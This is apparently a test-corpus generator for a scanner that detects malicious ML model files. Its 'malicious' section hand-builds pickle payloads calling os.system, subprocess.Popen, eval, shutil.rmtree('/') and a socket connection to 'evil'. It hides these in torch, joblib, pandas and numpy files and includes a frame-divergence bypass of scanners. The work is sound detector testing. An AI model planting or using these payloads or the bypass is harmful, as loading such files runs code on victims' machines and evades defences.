"""Writes a corpus of model files made by the real libraries into argv[1]
and prints a JSON manifest: [{"file", "kind", "expect", "finding"}].

expect is "ok" (a benign file: every one must come back clean) or
"infected" (an attack: it must be caught, and finding is a text the reason
must name). Made with the Debian packages python3-torch, -numpy, -sklearn,
-joblib, -pandas, -dill, -cloudpickle (infra/deps.sh installs them).

    realcorpus.py DIR             the corpus
    realcorpus.py --tensors N DIR N single-tensor torch.save files (property test)

Nothing here runs a payload: the attack objects only describe a call in
__reduce__, which pickling records and never performs.
"""
import bz2
import collections
import dataclasses
import enum
import gzip
import io
import json
import lzma
import os
import pickle
import random
import struct
import sys
import zipfile
import zlib

import cloudpickle
import dill
import joblib
import numpy as np
import pandas as pd
import torch
import torch.nn as nn
from sklearn.cluster import KMeans
from sklearn.decomposition import PCA
from sklearn.ensemble import GradientBoostingClassifier, RandomForestClassifier
from sklearn.feature_extraction.text import TfidfVectorizer
from sklearn.linear_model import LinearRegression, LogisticRegression
from sklearn.neighbors import KNeighborsClassifier
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import OneHotEncoder, StandardScaler
from sklearn.svm import SVC
from sklearn.tree import DecisionTreeClassifier

manifest = []


def path(out, name):
    return os.path.join(out, name)


def add(out, name, kind, expect, finding=""):
    assert os.path.exists(path(out, name)), name
    manifest.append({"file": path(out, name), "kind": kind, "expect": expect, "finding": finding})


DTYPES = [torch.float32, torch.float64, torch.float16, torch.bfloat16, torch.int8, torch.uint8,
          torch.int16, torch.int32, torch.int64, torch.bool, torch.complex64, torch.complex128]


def random_tensor(rng):
    dtype = rng.choice(DTYPES)
    shape = [rng.randint(1, 9) for _ in range(rng.randint(0, 3))]
    n = 1
    for d in shape:
        n *= d
    raw = bytearray(rng.getrandbits(8) for _ in range(n * torch.tensor([], dtype=dtype).element_size()))
    if raw and rng.random() < 0.3:
        # The first bytes that used to break scanners: STOP, STACK_GLOBAL, GLOBAL, PROTO.
        raw[0] = rng.choice([0x2E, 0x93, 0x63, 0x80, 0x28, 0x8C])
    t = torch.frombuffer(raw, dtype=torch.uint8).clone() if raw else torch.empty(0, dtype=torch.uint8)
    return t.view(dtype).reshape(shape) if raw else torch.empty(shape, dtype=dtype)


def tensors(n, out):
    rng = random.Random(1234)
    for i in range(n):
        t = random_tensor(rng)
        legacy = i % 4 == 3
        name = "t%04d.pt" % i
        torch.save(t, path(out, name), _use_new_zipfile_serialization=not legacy)
        add(out, name, "torch-legacy" if legacy else "torch-zip", "ok")


# ---- benign -------------------------------------------------------------


class MLP(nn.Module):
    def __init__(self, d=16):
        super().__init__()
        self.a = nn.Linear(d, 32)
        self.b = nn.Linear(32, 4)

    def forward(self, x):
        return self.b(torch.relu(self.a(x)))


class Strategy(enum.Enum):
    NO = "no"
    STEPS = "steps"
    EPOCH = "epoch"


class Level(enum.IntEnum):
    LOW = 1
    HIGH = 2


@dataclasses.dataclass
class TrainingArguments:
    output_dir: str = "out"
    evaluation_strategy: Strategy = Strategy.STEPS
    save_strategy: Strategy = Strategy.EPOCH
    logging_strategy: Strategy = Strategy.NO
    level: Level = Level.HIGH
    learning_rate: float = 5e-5
    seed: int = 42


def models():
    torch.manual_seed(0)
    return {
        "mlp": MLP(),
        "conv": nn.Sequential(nn.Conv2d(3, 8, 3), nn.BatchNorm2d(8), nn.ReLU(), nn.Conv2d(8, 4, 3)),
        "lstm": nn.LSTM(8, 16, num_layers=2),
        "gru": nn.GRU(8, 8),
        "transformer": nn.TransformerEncoder(nn.TransformerEncoderLayer(16, 2, 32), 2),
        "embedding": nn.Sequential(nn.Embedding(100, 16), nn.LayerNorm(16)),
    }


def trained(model, steps=3):
    opt = torch.optim.Adam(model.parameters(), lr=1e-3)
    return opt


def benign_torch(out):
    rng = random.Random(7)
    for name, m in models().items():
        for legacy in (False, True):
            suffix = "legacy" if legacy else "zip"
            kind = "torch-legacy" if legacy else "torch-zip"
            zf = not legacy
            torch.save(m.state_dict(), path(out, f"{name}-state-{suffix}.pt"), _use_new_zipfile_serialization=zf)
            add(out, f"{name}-state-{suffix}.pt", kind, "ok")
            torch.save(m, path(out, f"{name}-module-{suffix}.pt"), _use_new_zipfile_serialization=zf)
            add(out, f"{name}-module-{suffix}.pt", kind, "ok")
    # Optimizer states after real steps, and a full training checkpoint.
    for optname in ("sgd", "adam", "adamw", "rmsprop"):
        m = MLP()
        opt = {"sgd": lambda p: torch.optim.SGD(p, lr=0.1, momentum=0.9), "adam": torch.optim.Adam,
               "adamw": torch.optim.AdamW, "rmsprop": torch.optim.RMSprop}[optname](m.parameters())
        for _ in range(3):
            opt.zero_grad()
            m(torch.randn(4, 16)).sum().backward()
            opt.step()
        torch.save(opt.state_dict(), path(out, f"optim-{optname}.pt"))
        add(out, f"optim-{optname}.pt", "torch-zip", "ok")
        ck = {"epoch": 3, "model": m.state_dict(), "optimizer": opt.state_dict(),
              "args": TrainingArguments(), "rng": torch.get_rng_state(), "loss": 0.25}
        torch.save(ck, path(out, f"checkpoint-{optname}.pt"))
        add(out, f"checkpoint-{optname}.pt", "torch-zip", "ok")
    # Many tensors, every dtype.
    many = {f"layer{i}.w": random_tensor(rng) for i in range(300)}
    torch.save(many, path(out, "many-tensors.pt"))
    add(out, "many-tensors.pt", "torch-zip", "ok")
    torch.save(many, path(out, "many-tensors-legacy.pt"), _use_new_zipfile_serialization=False)
    add(out, "many-tensors-legacy.pt", "torch-legacy", "ok")
    for proto in (2, 3, 4, 5):
        torch.save(MLP().state_dict(), path(out, f"state-proto{proto}.pt"), pickle_protocol=proto)
        add(out, f"state-proto{proto}.pt", "torch-zip", "ok")
    torch.save(MLP().state_dict(), path(out, "state-proto4-legacy.pt"), pickle_protocol=4, _use_new_zipfile_serialization=False)
    add(out, "state-proto4-legacy.pt", "torch-legacy", "ok")
    # training_args.bin: a dataclass carrying Enum members (getattr pickling on 3.11).
    torch.save(TrainingArguments(), path(out, "training_args.bin"))
    add(out, "training_args.bin", "torch-zip", "ok")
    with open(path(out, "training_args.pkl"), "wb") as f:
        pickle.dump(TrainingArguments(), f)
    add(out, "training_args.pkl", "pickle", "ok")
    # TorchScript, scripted and traced.
    torch.jit.script(MLP()).save(path(out, "mlp-script.pt"))
    add(out, "mlp-script.pt", "torchscript", "ok")
    torch.jit.trace(models()["conv"].eval(), torch.randn(1, 3, 8, 8)).save(path(out, "conv-traced.pt"))
    add(out, "conv-traced.pt", "torchscript", "ok")
    torch.jit.script(models()["lstm"]).save(path(out, "lstm-script.pt"))
    add(out, "lstm-script.pt", "torchscript", "ok")


def datasets():
    rng = np.random.RandomState(0)
    X = rng.randn(60, 5)
    y = (X[:, 0] > 0).astype(int)
    return X, y


def estimators():
    X, y = datasets()
    est = {
        "logreg": LogisticRegression().fit(X, y),
        "linreg": LinearRegression().fit(X, X[:, 1]),
        "forest": RandomForestClassifier(n_estimators=5, random_state=0).fit(X, y),
        "gboost": GradientBoostingClassifier(n_estimators=5).fit(X, y),
        "tree": DecisionTreeClassifier().fit(X, y),
        "svc": SVC().fit(X, y),
        "knn": KNeighborsClassifier().fit(X, y),
        "kmeans": KMeans(n_clusters=3, n_init=2, random_state=0).fit(X),
        "pca": PCA(n_components=2).fit(X),
        "pipeline": Pipeline([("scale", StandardScaler()), ("clf", LogisticRegression())]).fit(X, y),
        "onehot": OneHotEncoder().fit([["a"], ["b"], ["c"]]),
        "tfidf": TfidfVectorizer().fit(["the cat", "a dog", "the dog sat"]),
    }
    return est


COMPRESSIONS = [None, 3, ("zlib", 3), ("gzip", 3), ("bz2", 3), ("xz", 3), ("lzma", 3), ("lz4", 3)]


class old_joblib_layout:
    """joblib.dump writes arrays as joblib < 1.2 did: no alignment byte."""

    def __enter__(self):
        from joblib import numpy_pickle as npk
        self.npk, self.init = npk, npk.NumpyArrayWrapper.__init__

        def init(w, *a, **k):
            self.init(w, *a, **k)
            w.__dict__.pop("numpy_array_alignment_bytes", None)
        npk.NumpyArrayWrapper.__init__ = init

    def __exit__(self, *exc):
        self.npk.NumpyArrayWrapper.__init__ = self.init


def opcode_array():
    """A uint8 array whose bytes are a stack-neutral call of os.system."""
    return np.frombuffer(b"cposix\nsystem\n(S'echo pwned'\ntR0", dtype=np.uint8).copy()


def cname(c):
    if c is None:
        return "raw"
    if isinstance(c, int):
        return "z%d" % c
    return c[0]


def benign_sklearn(out):
    for name, e in estimators().items():
        for c in COMPRESSIONS:
            if c not in (None, 3) and name not in ("forest", "pipeline", "tfidf"):
                continue
            fn = f"{name}-{cname(c)}.joblib"
            joblib.dump(e, path(out, fn), compress=c if c is not None else 0)
            add(out, fn, "joblib", "ok")
        with open(path(out, f"{name}.pkl"), "wb") as f:
            pickle.dump(e, f)
        add(out, f"{name}.pkl", "pickle", "ok")
    # joblib of plain arrays and dicts of arrays, every dtype numpy has.
    arrays = {d: (np.arange(24) % 7).astype(d).reshape(2, 3, 4) for d in
              ["f2", "f4", "f8", "i1", "i2", "i4", "i8", "u1", "u2", "u4", "u8", "?", "c8", "c16", "U5", "S3", "M8[s]", "m8[ms]"]}
    joblib.dump(arrays, path(out, "arrays.joblib"))
    add(out, "arrays.joblib", "joblib", "ok")
    # joblib < 1.2's layout (no alignment byte before an array's bytes),
    # which joblib.load still reads: random arrays of every dtype, whose
    # bytes pickle.load would read as opcodes (the second reading).
    rng = np.random.default_rng(19)
    with old_joblib_layout():
        for i, d in enumerate(["u1", "i2", "i4", "i8", "f2", "f4", "f8", "c8", "?", "u8"] * 3):
            a = rng.integers(0, 256, int(rng.integers(1, 200)) * np.dtype(d).itemsize, dtype=np.uint8).view(d)
            joblib.dump({"w": a, "b": a[::2].copy()}, path(out, f"old-layout-{i}.joblib"))
            add(out, f"old-layout-{i}.joblib", "joblib", "ok")
    # joblib < 0.10's "ZF" zlib files, which joblib.load still reads
    # (numpy_pickle_compat), written with joblib's own write_zfile.
    from joblib.numpy_pickle_compat import write_zfile
    for i, obj in enumerate([{"coef": [1.0, 2.0], "classes": ["a", "b"]}, list(range(1000)), estimators()["forest"]]):
        with open(path(out, f"zfile-{i}.joblib"), "wb") as f:
            write_zfile(f, pickle.dumps(obj, protocol=2))
        assert joblib.load(path(out, f"zfile-{i}.joblib")) is not None
        add(out, f"zfile-{i}.joblib", "joblib-zf", "ok")
    # Opcodes in an array, in today's layout: joblib.load reads them as
    # array bytes, pickle.load stops at the alignment byte before them
    # (0x01-0x10 are no opcodes): neither loader runs them.
    joblib.dump({"w": opcode_array()}, path(out, "opcodes-in-array.joblib"))
    add(out, "opcodes-in-array.joblib", "joblib", "ok")
    joblib.dump(np.array(["x", 1, None], dtype=object), path(out, "objarray.joblib"))
    add(out, "objarray.joblib", "joblib", "ok")
    joblib.dump([np.zeros((0,)), np.ones(()), np.asfortranarray(np.ones((3, 4)))], path(out, "edge-arrays.joblib"))
    add(out, "edge-arrays.joblib", "joblib", "ok")


def benign_pandas_numpy(out):
    df = pd.DataFrame({"a": np.arange(50), "b": np.linspace(0, 1, 50), "c": ["s%d" % i for i in range(50)],
                       "d": pd.date_range("2020-01-01", periods=50), "e": pd.Categorical(["x", "y"] * 25)})
    for ext in ("pkl", "pkl.gz", "pkl.bz2", "pkl.xz"):
        df.to_pickle(path(out, f"frame.{ext}"))
        add(out, f"frame.{ext}", "pandas", "ok")
    df["a"].to_pickle(path(out, "series.pkl"))
    add(out, "series.pkl", "pandas", "ok")
    for d in ("f4", "f8", "i8", "u1", "?", "c16", "U4", "S2", "M8[D]"):
        np.save(path(out, f"arr-{d.replace('[', '').replace(']', '')}.npy"), (np.arange(12) % 5).astype(d).reshape(3, 4))
        add(out, f"arr-{d.replace('[', '').replace(']', '')}.npy", "npy", "ok")
    np.save(path(out, "structured.npy"), np.zeros(3, dtype=[("x", "f4"), ("y", "i2")]))
    add(out, "structured.npy", "npy", "ok")
    np.save(path(out, "objects.npy"), np.array([1, "two", {"three": 3}], dtype=object), allow_pickle=True)
    add(out, "objects.npy", "npy", "ok")
    np.savez(path(out, "arrays.npz"), a=np.arange(10), b=np.ones((2, 2)))
    add(out, "arrays.npz", "npz", "ok")
    np.savez_compressed(path(out, "arrays-compressed.npz"), a=np.arange(1000), b=np.eye(5))
    add(out, "arrays-compressed.npz", "npz", "ok")
    np.savez(path(out, "objects.npz"), o=np.array([[1, 2], "x"], dtype=object))
    add(out, "objects.npz", "npz", "ok")


def benign_plain(out):
    data = {"vocab": {"a": 1, "b": 2}, "sizes": [1, 2, 3], "ratio": 0.5, "name": "tok", "raw": b"\x00\x01",
            "nested": collections.OrderedDict(x=(1, 2)), "set": {1, 2}, "none": None, "big": 2 ** 70}
    for proto in range(6):
        with open(path(out, f"plain-p{proto}.pkl"), "wb") as f:
            pickle.dump(data, f, protocol=proto)
        add(out, f"plain-p{proto}.pkl", "pickle", "ok")
    for proto in (2, 4):
        with open(path(out, f"dill-p{proto}.pkl"), "wb") as f:
            dill.dump(data, f, protocol=proto)
        add(out, f"dill-p{proto}.pkl", "dill", "ok")
        with open(path(out, f"cloudpickle-p{proto}.pkl"), "wb") as f:
            cloudpickle.dump(data, f, protocol=proto)
        add(out, f"cloudpickle-p{proto}.pkl", "cloudpickle", "ok")
    with open(path(out, "dill-array.pkl"), "wb") as f:
        dill.dump({"w": np.arange(6.0)}, f)
    add(out, "dill-array.pkl", "dill", "ok")
    with open(path(out, "cloudpickle-array.pkl"), "wb") as f:
        cloudpickle.dump({"w": np.arange(6.0)}, f)
    add(out, "cloudpickle-array.pkl", "cloudpickle", "ok")
    for ext, opener in (("gz", gzip.open), ("bz2", bz2.open), ("xz", lzma.open)):
        with opener(path(out, f"plain.pkl.{ext}"), "wb") as f:
            pickle.dump(data, f)
        add(out, f"plain.pkl.{ext}", "compressed-pickle", "ok")
    with lzma.open(path(out, "plain.pkl.lzma"), "wb", format=lzma.FORMAT_ALONE) as f:
        pickle.dump(data, f)
    add(out, "plain.pkl.lzma", "compressed-pickle", "ok")
    # Files that are not pickles at all.
    for name, body in (("README.md", b"# model\n\nA small model.\n"), ("config.json", b'{"hidden": 16}\n'),
                       ("model.py", b"import torch\nimport os\n\nclass Net(torch.nn.Module):\n    pass\n"),
                       ("notpickle.bin", b"cmod\n\xf8\n"), ("vocab.txt", b"[PAD]\n[UNK]\nthe\n")):
        with open(path(out, name), "wb") as f:
            f.write(body)
        add(out, name, "other", "ok")


# ---- malicious ----------------------------------------------------------


class Call:
    """Pickles as a call of fn(*args); never runs it here."""

    def __init__(self, fn, *args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return self.fn, self.args


def call_pickle(module, name, *args):
    """A protocol 4 pickle calling module.name(*args), assembled by hand so
    that module need not exist here (nothing is imported or patched)."""
    inner = pickle.dumps(tuple(args), protocol=4)
    assert inner[:2] == b"\x80\x04" and inner[-1:] == b"."
    inner = inner[2:-1]
    if inner[:1] == b"\x95":
        inner = inner[9:]
    m, n = module.encode(), name.encode()
    return b"\x80\x04\x8c" + bytes([len(m)]) + m + b"\x8c" + bytes([len(n)]) + n + b"\x93" + inner + b"R."


def raw_global(module, name, arg, proto=2):
    """A minimal pickle calling module.name(arg) with GLOBAL."""
    m, n, a = module.encode(), name.encode(), arg.encode()
    if proto < 2:
        return b"c" + m + b"\n" + n + b"\n(S'" + a + b"'\ntR."
    return b"\x80" + bytes([proto]) + b"c" + m + b"\n" + n + b"\nX" + struct.pack("<I", len(a)) + a + b"\x85R."


def frame_divergence():
    """fickling's frame bypass: BINBYTES straddles the frame end. The C
    unpickler reading a file without peek (torch's io.BytesIO) drops the
    buffered byte and reads the length afresh after the frame, landing on
    the payload; pickle.loads(bytes) reads flat and stops at '.'."""
    payload = b"0cposix\nsystem\n(S'echo pwned'\ntR."
    n = 8
    after = b"A" * (n - 1) + b"." + payload
    frame = b"B" + struct.pack("<I", n) + b"Z"
    return b"\x80\x04\x95" + struct.pack("<Q", len(frame)) + frame + after


def check_divergence(data):
    """The generator checks the bypass works as described, with stubs."""
    seen = []

    class Rec(pickle.Unpickler):
        def find_class(self, m, n):
            seen.append((m, n))
            return lambda *a: None

    flat = Rec(io.BytesIO(data)).load()
    assert isinstance(flat, bytes) and not seen, (flat, seen)
    assert data.endswith(b"tR.")


def inject_zip(src, dst, member_suffix, data):
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as zout:
        for item in zin.infolist():
            body = zin.read(item.filename)
            if item.filename.endswith(member_suffix):
                body = data
            zout.writestr(item, body)


def malicious(out):
    system = Call(os.system, "echo pwned")
    # Plain pickles, every protocol.
    for proto in range(6):
        with open(path(out, f"evil-p{proto}.pkl"), "wb") as f:
            pickle.dump(system, f, protocol=proto)
        add(out, f"evil-p{proto}.pkl", "pickle", "infected", "posix.system")
    gadgets = [
        ("eval", Call(eval, "1+1"), "builtins.eval"),
        ("exec", Call(exec, "print(1)"), "builtins.exec"),
        ("popen", call_pickle("subprocess", "Popen", ["id"]), "subprocess.Popen"),
        ("runpy", call_pickle("runpy", "_run_code", "print(1)", {}), "runpy._run_code"),
        ("importlib", call_pickle("importlib", "import_module", "os"), "importlib.import_module"),
        ("webbrowser", call_pickle("webbrowser", "open", "http://x"), "webbrowser.open"),
        ("timeit", call_pickle("timeit", "timeit", "print(1)"), "timeit.timeit"),
        ("pydoc", call_pickle("pydoc", "pipepager", "x", "id"), "pydoc.pipepager"),
        ("attrgetter", call_pickle("operator", "attrgetter", "system"), "operator.attrgetter"),
        ("partial", call_pickle("functools", "partial", print), "functools.partial"),
        ("torchhub", call_pickle("torch.hub", "load", "evil/repo", "m"), "torch.hub.load"),
        ("runstring", call_pickle("numpy.testing._private.utils", "runstring", "print(1)", {}), "runstring"),
        ("nested", call_pickle("pickle", "loads", b"x"), "pickle.loads"),
        ("rmtree", call_pickle("shutil", "rmtree", "/"), "shutil.rmtree"),
        ("socket", call_pickle("socket", "create_connection", ("evil", 80)), "socket.create_connection"),
        ("interpreters", call_pickle("_interpreters", "run_string", 0, "print(1)"), "_interpreters.run_string"),
        ("xxsubinterp", call_pickle("_xxsubinterpreters", "run_string", 0, "print(1)"), "_xxsubinterpreters.run_string"),
        ("interp-exec", call_pickle("_interpreters", "exec", 0, "print(1)"), "_interpreters.exec"),
        ("code", call_pickle("code", "InteractiveInterpreter"), "code.InteractiveInterpreter"),
        ("getattr-os", b"\x80\x04cbuiltins\ngetattr\ncposixpath\nos\nS'system'\n\x86R(S'id'\ntR.", "os.system"),
    ]
    for name, obj, finding in gadgets:
        with open(path(out, f"evil-{name}.pkl"), "wb") as f:
            if isinstance(obj, bytes):
                f.write(obj)
            else:
                pickle.dump(obj, f, protocol=4)
        add(out, f"evil-{name}.pkl", "pickle", "infected", finding)
    # getattr with a computed (non-constant) target: dangerous even on a class.
    with open(path(out, "evil-getattr-computed.pkl"), "wb") as f:
        f.write(b"\x80\x04cbuiltins\ngetattr\ncbuiltins\nstr\n(S'__class__'\ntRS'x'\n\x86R.")
    add(out, "evil-getattr-computed.pkl", "pickle", "infected", "builtins.getattr")
    with open(path(out, "evil-getattr-dunder.pkl"), "wb") as f:
        f.write(b"\x80\x04cbuiltins\ngetattr\ncollections\nOrderedDict\nS'__init__'\n\x86R.")
    add(out, "evil-getattr-dunder.pkl", "pickle", "infected", "__init__")
    # torch: injected data.pkl (zip), the main pickle (legacy), constants.pkl (TorchScript),
    # a payload inside an optimizer state.
    torch.save(MLP().state_dict(), path(out, "base.pt"))
    inject_zip(path(out, "base.pt"), path(out, "evil-injected.pt"), "/data.pkl", pickle.dumps(system, protocol=2))
    add(out, "evil-injected.pt", "torch-zip", "infected", "posix.system")
    os.remove(path(out, "base.pt"))
    torch.save({"w": torch.ones(3), "x": system}, path(out, "evil-legacy.pt"), _use_new_zipfile_serialization=False)
    add(out, "evil-legacy.pt", "torch-legacy", "infected", "posix.system")
    torch.save({"w": torch.ones(3), "x": system}, path(out, "evil-zip.pt"))
    add(out, "evil-zip.pt", "torch-zip", "infected", "posix.system")
    m = MLP()
    opt = torch.optim.SGD(m.parameters(), lr=0.1)
    sd = opt.state_dict()
    sd["param_groups"][0]["hook"] = system
    torch.save(sd, path(out, "evil-optimizer.pt"))
    add(out, "evil-optimizer.pt", "torch-zip", "infected", "posix.system")
    torch.jit.script(MLP()).save(path(out, "script.pt"))
    inject_zip(path(out, "script.pt"), path(out, "evil-constants.pt"), "/constants.pkl", pickle.dumps(system, protocol=2))
    add(out, "evil-constants.pt", "torchscript", "infected", "posix.system")
    os.remove(path(out, "script.pt"))
    # joblib, every compression: a payload beside a fitted estimator and its arrays.
    X, y = datasets()
    bundle = {"model": LogisticRegression().fit(X, y), "weights": np.arange(100.0), "hook": system}
    for c in COMPRESSIONS:
        fn = f"evil-{cname(c)}.joblib"
        joblib.dump(bundle, path(out, fn), compress=c if c is not None else 0)
        add(out, fn, "joblib", "infected", "posix.system")
    # joblib < 1.2 layout: an array whose bytes are opcodes. joblib.load
    # reads them as the array; pickle.load of the same file runs them.
    with old_joblib_layout():
        joblib.dump({"w": opcode_array()}, path(out, "evil-plain-load.joblib"))
    add(out, "evil-plain-load.joblib", "joblib", "infected", "posix.system")
    # joblib's "ZF" format (joblib < 0.10, still loaded by joblib.load).
    from joblib.numpy_pickle_compat import write_zfile
    with open(path(out, "evil-zfile.joblib"), "wb") as f:
        write_zfile(f, pickle.dumps({"model": [1.0], "hook": system}, protocol=2))
    add(out, "evil-zfile.joblib", "joblib-zf", "infected", "posix.system")
    # joblib: a payload hidden in an object array's nested pickle.
    joblib.dump({"a": np.array([system, 1], dtype=object)}, path(out, "evil-objarray.joblib"))
    add(out, "evil-objarray.joblib", "joblib", "infected", "posix.system")
    # pandas, every compression, payload in an object column.
    df = pd.DataFrame({"a": [1, 2], "b": [system, "x"]})
    for ext in ("pkl", "pkl.gz", "pkl.bz2", "pkl.xz"):
        df.to_pickle(path(out, f"evil-frame.{ext}"))
        add(out, f"evil-frame.{ext}", "pandas", "infected", "posix.system")
    # Compressed plain pickles.
    for ext, opener in (("gz", gzip.open), ("bz2", bz2.open), ("xz", lzma.open)):
        with opener(path(out, f"evil.pkl.{ext}"), "wb") as f:
            pickle.dump(system, f)
        add(out, f"evil.pkl.{ext}", "compressed-pickle", "infected", "posix.system")
    with lzma.open(path(out, "evil.pkl.lzma"), "wb", format=lzma.FORMAT_ALONE) as f:
        pickle.dump(system, f)
    add(out, "evil.pkl.lzma", "compressed-pickle", "infected", "posix.system")
    with open(path(out, "evil.pkl.zlib"), "wb") as f:
        f.write(zlib.compress(pickle.dumps(system)))
    add(out, "evil.pkl.zlib", "compressed-pickle", "infected", "posix.system")
    # numpy: object arrays are pickles.
    np.save(path(out, "evil.npy"), np.array([system], dtype=object), allow_pickle=True)
    add(out, "evil.npy", "npy", "infected", "posix.system")
    np.savez(path(out, "evil.npz"), o=np.array([system], dtype=object))
    add(out, "evil.npz", "npz", "infected", "posix.system")
    np.savez_compressed(path(out, "evil-compressed.npz"), o=np.array([system], dtype=object))
    add(out, "evil-compressed.npz", "npz", "infected", "posix.system")
    # cloudpickle and dill functions.
    with open(path(out, "evil-cloudpickle.pkl"), "wb") as f:
        cloudpickle.dump(lambda: os.system("echo pwned"), f)
    add(out, "evil-cloudpickle.pkl", "cloudpickle", "infected", "cloudpickle")
    with open(path(out, "evil-dill.pkl"), "wb") as f:
        dill.dump(lambda: os.system("echo pwned"), f, recurse=True)
    add(out, "evil-dill.pkl", "dill", "infected", "dill")
    # Frame divergence (fickling's bypass).
    fd = frame_divergence()
    check_divergence(fd)
    with open(path(out, "evil-frame-divergence.pkl"), "wb") as f:
        f.write(fd)
    add(out, "evil-frame-divergence.pkl", "pickle", "infected", "frame")
    # Protocol 0 and 2 hand-made, a torch name and an Enum-shaped getattr on a module.
    with open(path(out, "evil-hand-p0.pkl"), "wb") as f:
        f.write(raw_global("os", "system", "id", proto=0))
    add(out, "evil-hand-p0.pkl", "pickle", "infected", "os.system")
    with open(path(out, "evil-hand-p4.pkl"), "wb") as f:
        f.write(raw_global("subprocess", "getoutput", "id", proto=4))
    add(out, "evil-hand-p4.pkl", "pickle", "infected", "subprocess.getoutput")


def main():
    args = sys.argv[1:]
    if args and args[0] == "--tensors":
        n, out = int(args[1]), args[2]
        tensors(n, out)
    else:
        out = args[0]
        benign_torch(out)
        benign_sklearn(out)
        benign_pandas_numpy(out)
        benign_plain(out)
        malicious(out)
    json.dump(manifest, sys.stdout)


main()
